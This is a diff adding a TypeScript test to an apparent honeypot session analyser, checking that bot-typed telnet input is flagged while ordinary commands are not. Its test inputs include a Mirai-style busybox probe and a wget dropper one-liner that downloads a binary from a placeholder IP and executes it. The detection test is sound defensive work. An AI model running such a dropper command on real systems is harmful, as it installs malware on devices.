@@ -62,3 +62,16 @@ test('damaged messages end', () => {
     for (const bytes of mangled(whole)) stream(...talk.slice(0, i), [bytes, fromClient])
   }
 })
+
+test('what bots type is told, what people type is not', () => {
+  const deeds = (line: string) =>
+    stream(...logon, s('\r\n# '), c(`${line}\r\n`)).flatMap((fact) =>
+      fact.kind === 'anomaly' ? [fact.detail] : [],
+    )
+  assert.deepEqual(deeds('/bin/busybox MIRAI'), ['asks for a program that is not there, as Mirai does'])
+  assert.deepEqual(deeds('cd /tmp; wget http://1.2.3.4/m.arm7 -O - > x; chmod 777 x; ./x'), [
+    'fetches a program and runs it',
+  ])
+  assert.deepEqual(deeds('show running-config'), [])
+  assert.deepEqual(deeds('/bin/busybox wget -h'), [])
+})
